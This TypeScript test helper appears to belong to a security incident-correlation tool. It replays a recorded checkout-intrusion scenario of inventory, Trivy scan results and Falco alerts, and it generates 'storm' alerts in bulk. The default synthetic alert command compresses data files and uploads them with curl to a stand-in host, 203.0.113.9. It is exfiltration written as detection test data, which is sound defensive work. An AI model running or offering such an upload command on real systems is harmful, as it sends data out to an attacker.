/** A recorded scenario taken in as the server takes it: inventory, the scanner’s report, Falco’s alerts; correlated, its attack steps derived. */
import { readInput } from '../../collectors/read.ts'
import type { Clock } from '../../domain/clock.ts'
import { fromDate } from '../../domain/event-time.ts'
import type { Incident } from '../../domain/incident.ts'
import { loadScenario, type Scenario, toJsonLines } from '../../evals/scenario.ts'
import { correlatePending } from '../../incidents/pipeline.ts'
import type { Database } from '../../store/database.ts'
import { listIncidents } from '../../store/incidents.ts'
import { accept } from '../../store/intake.ts'
import { deriveAll, recordScan } from './posture.ts'
import { delivery } from './records.ts'
import { recordInventory } from './shop.ts'

/** Its most severe incident. `change` makes another story of it. */
export async function recordStory(
  db: Database,
  clock: Clock,
  scope: string,
  change: (scenario: Scenario) => Scenario = (scenario) => scenario,
): Promise<Incident> {
  const scenario = change(loadScenario('shop-checkout-intrusion', clock.now()))
  await recordInventory(db, clock, scope, scenario.objects)
  await recordScan(db, clock, scope, scenario.trivy)
  async function* bytes(): AsyncIterable<Uint8Array> {
    yield Buffer.from(toJsonLines(scenario.alerts))
  }
  await readInput(bytes(), {
    path: 'alerts',
    format: 'falco',
    source: { sourceId: null, sourceName: 'falco', scope, receivedNs: fromDate(clock.now()) },
    onBatch: async ({ records }) => {
      await accept(db, clock, [delivery({ scope, alerts: records.flatMap((record) => (record.kind === 'alert' ? [record.alert] : [])) })])
    },
  })
  while ((await correlatePending(db, clock)).more);
  await deriveAll(db, clock)
  const [worst] = (await listIncidents(db, { scope }, { limit: 1 })).incidents
  if (worst === undefined) throw new Error('the story made no incident')
  return worst
}

/** The same story in a storm: `more` further alerts of its container, each with a command line of its own. */
export const inStorm =
  (
    more: number,
    say: (n: number) => string = (n) =>
      `sh -c "cat /srv/data/part-${n} | gzip > /tmp/part-${n}.gz && curl -T /tmp/part-${n}.gz http://203.0.113.9/up"`,
  ) =>
  (scenario: Scenario): Scenario => {
    const [one] = scenario.alerts.filter(
      ({ output_fields: fields }) => typeof fields['container.id'] === 'string' && fields['container.id'] !== 'host',
    )
    if (one === undefined) throw new Error('no alert of a container')
    const base = Date.parse(one.time)
    const alerts = Array.from({ length: more }, (_, n) => {
      const at = new Date(base + n * 100)
      const ns = BigInt(at.getTime()) * 1_000_000n + BigInt(n)
      const time = `${at.toISOString().slice(0, 19)}.${(ns % 1_000_000_000n).toString().padStart(9, '0')}Z`
      const fields = { ...one.output_fields, 'proc.cmdline': say(n), 'proc.pid': 5_000 + n, 'evt.time': ns }
      return { ...one, rule: `Storm rule ${n % 3}`, time, priority: 'Notice', output: say(n), output_fields: fields }
    })
    return { ...scenario, alerts: [...scenario.alerts, ...alerts] }
  }
